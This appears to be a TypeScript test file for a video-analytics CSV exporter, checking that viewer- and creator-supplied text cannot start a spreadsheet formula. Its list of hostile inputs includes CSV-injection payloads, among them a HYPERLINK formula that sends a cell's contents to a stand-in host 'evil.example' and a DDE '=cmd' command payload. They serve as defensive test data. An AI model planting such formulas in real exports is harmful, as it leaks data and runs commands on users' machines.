import type { AnalyticsReportResource } from '@branchify/shared';
import { csvCell, neutraliseFormulas, reportCsv, type ViewRecord } from '../../plugins/branchify/server/src/analytics/csv';
import { SPREADSHEET_SEPARATORS, spreadsheetFields, startsFormula } from '../api/support/spreadsheet';

/**
 * The analytics CSV as a spreadsheet opens it, whatever it splits lines on: no cell it makes of a
 * viewer's or creator's text may start a formula, and what is not a formula reads as written.
 */

/** Text a viewer (a variable) or a creator (titles, button texts) can put in a cell. */
const HOSTILE = [
  '=1+1',
  '+1',
  '-1+2',
  '@SUM(A1:A2)',
  ' =1+1',
  '   @x',
  '\t=1+1',
  '\r=1+1',
  '\0=1',
  '\u00a0=1',
  '\u3000=1',
  'Ada;=HYPERLINK("http://evil.example/?"&A1,"Ada")',
  'Ada,=1+1',
  'Ada\t=1+1',
  'Ada|=1+1',
  'Ada; =1+1',
  'Ada;\t=1+1',
  'Ada;"=1+1"',
  "Ada;'=1+1",
  'Ada;;=1+1',
  'Ada\n=1+1',
  'Ada\r\n+1',
  'Ada\r-1',
  "=cmd|' /C calc'!A0",
  '"=1+1"',
  '""=1+1',
  'Ada ;-2+3',
  '\uff1d1+1',
  'Ada;\uff0b1',
  'Ada;\ufe66 1',
  'Ada,\uff20SUM(A1)',
  'Ada;\u207a1',
  '=Intro, the "start"',
];

/** Plain text that must come out as written. */
const HARMLESS = ['Path A', 'Intro - part 2', 'a-b+c=d', 'ada@example.com', 'Hello, world', 'Ada; Lovelace', 'Take "B"', '', 'yes', '2024-01-31'];

/** A view row of the file with the text in a middle cell and a number after it, as the CSV writes it. */
const lineWith = (text: string) => `view,2024-01-31T00:00:00.000Z,intro,${csvCell(text)},${csvCell(-3)},,${csvCell(text)}\r\n`;

describe('CSV cells', () => {
  it.each(SPREADSHEET_SEPARATORS.map((s) => [JSON.stringify(s), s] as const))('start no formula when a spreadsheet splits on %s', (_name, separator) => {
    const formulas = HOSTILE.flatMap((text) =>
      spreadsheetFields(lineWith(text), separator)
        .filter((field) => startsFormula(field) && field !== '-3')
        .map((field) => `${JSON.stringify(text)} → ${JSON.stringify(field)}`),
    );
    expect(formulas).toEqual([]);
  });

  it('keep each text whole and readable under the file’s own comma split', () => {
    for (const text of HOSTILE) {
      const fields = spreadsheetFields(lineWith(text), ',');
      expect(fields).toHaveLength(8);
      // Only apostrophes were added.
      expect(fields[3]!.replace(/'/g, '')).toBe(text.replace(/'/g, ''));
      expect(fields[3]).toBe(fields[6]);
    }
  });

  it('leave plain text as written, quoted only where RFC 4180 asks', () => {
    expect(HARMLESS.map((t) => neutraliseFormulas(t))).toEqual(HARMLESS);
    expect(csvCell('Path A')).toBe('Path A');
    expect(csvCell('Hello, world')).toBe('"Hello, world"');
    expect(csvCell('Take "B"')).toBe('"Take ""B"""');
    expect(csvCell('Ada; Lovelace')).toBe('Ada; Lovelace');
  });

  it('prefix the cell and every piece that starts a formula', () => {
    expect(csvCell('=Intro, the "start"')).toBe(`"'=Intro, the ""start"""`);
    expect(csvCell('+Take B')).toBe("'+Take B");
    expect(csvCell(' =1+1')).toBe("' =1+1");
    expect(csvCell('Ada;=HYPERLINK("x")')).toBe(`"Ada;'=HYPERLINK(""x"")"`);
    expect(csvCell('Ada\t=1')).toBe("Ada\t'=1");
    expect(csvCell('Ada|@x')).toBe("Ada|'@x");
    expect(csvCell('\tplain')).toBe("'\tplain");
    expect(csvCell('\uff1d1')).toBe("'\uff1d1");
  });

  it('write numbers and yes/no as they are: a negative number gains no apostrophe', () => {
    expect([csvCell(-3), csvCell(-0.5), csvCell(0), csvCell(12), csvCell(true), csvCell(null)]).toEqual(['-3', '-0.5', '0', '12', 'true', '']);
  });

  it('treat every character that NFKC-normalises to a formula trigger as one', () => {
    const missed: string[] = [];
    for (let code = 0; code <= 0x10ffff; code += 1) {
      if (code >= 0xd800 && code <= 0xdfff) continue;
      const char = String.fromCodePoint(code);
      if (!/^[=+\-@]/.test(char.normalize('NFKC'))) continue;
      if (!neutraliseFormulas(`${char}1`).startsWith("'") || !neutraliseFormulas(`a;${char}1`).startsWith("a;'")) missed.push(code.toString(16));
    }
    expect(missed).toEqual([]);
  });
});

const REPORT: AnalyticsReportResource = {
  range: { from: '2024-01-01', to: '2024-01-02' },
  views: { total: 3, unique: 2 },
  watch_time: { total: 40, average: 13 },
  completion: [],
  clicks: [],
  paths: [],
  series: [
    { date: '2024-01-01', views: 1, clicks: 0 },
    { date: '2024-01-02', views: 2, clicks: 1 },
  ],
  map: {
    nodes: [{ editor_id: 'intro', title: '-Intro', root: true, reached: 2, drop_off: 1, drop_off_rate: 0.5 }],
    edges: [],
  },
};

const view = (i: number, variables: ViewRecord['variables'] = {}): ViewRecord => ({
  view_id: `v${i}`,
  started_at: '2024-01-02T00:00:00.000Z',
  editor_id: 'intro',
  watch_time: i,
  variables,
});

async function* pagesOf(pages: ViewRecord[][], read: { pages: number } = { pages: 0 }): AsyncGenerator<ViewRecord[], void, undefined> {
  for (const page of pages) {
    read.pages += 1;
    yield page;
  }
}

const collect = async (chunks: AsyncIterable<string>): Promise<string[]> => {
  const out: string[] = [];
  for await (const chunk of chunks) out.push(chunk);
  return out;
};

describe('the report as CSV chunks', () => {
  const variables = ['name', 'score'];

  it('are the same bytes however the views are paged, the first chunk carrying the first page', async () => {
    const views = [view(1, { name: 'Ada;=1+1', score: -3 }), view(2, { name: 'Bob', score: 4 }), view(3)];
    const whole = (await collect(reportCsv(REPORT, { variables, pages: pagesOf([views]) }))).join('');
    const paged = await collect(reportCsv(REPORT, { variables, pages: pagesOf([[views[0]!], [views[1]!, views[2]!]]) }));
    expect(paged).toHaveLength(2);
    expect(paged.join('')).toBe(whole);
    expect(paged[0]!.split('\r\n').filter((l) => l.startsWith('view,'))).toHaveLength(1);
    const lines = whole.split('\r\n');
    expect(lines[0]).toBe(
      'record,date,video_id,video_title,branch_id,button_text,kind,to_video_id,to_video_title,target,viewers,share,reached,drop_off,drop_off_rate,views,unique_viewers,clicks,watch_time,view_id,var_name,var_score',
    );
    expect(lines).toContain("node,,intro,'-Intro,,,,,,,,,2,1,0.5,,,,,,,");
    expect(lines).toContain("view,2024-01-02T00:00:00.000Z,intro,'-Intro,,,,,,,,,,,,,,,1,v1,Ada;'=1+1,-3");
    expect(lines).toContain("view,2024-01-02T00:00:00.000Z,intro,'-Intro,,,,,,,,,,,,,,,3,v3,,");
    expect(whole.endsWith('\r\n')).toBe(true);
  });

  it('are the summary rows alone when the range has no views', async () => {
    const chunks = await collect(reportCsv(REPORT, { variables: [], pages: pagesOf([]) }));
    expect(chunks).toHaveLength(1);
    expect(chunks[0]!.split('\r\n')).toHaveLength(6);
  });

  it('read a page of views only when the one before has been taken', async () => {
    const read = { pages: 0 };
    const pages = Array.from({ length: 100 }, (_, p) => [view(p)]);
    const chunks = reportCsv(REPORT, { variables: [], pages: pagesOf(pages, read) });
    await chunks.next();
    await chunks.next();
    expect(read.pages).toBe(2);
    await chunks.return();
    expect(read.pages).toBe(2);
  });
});
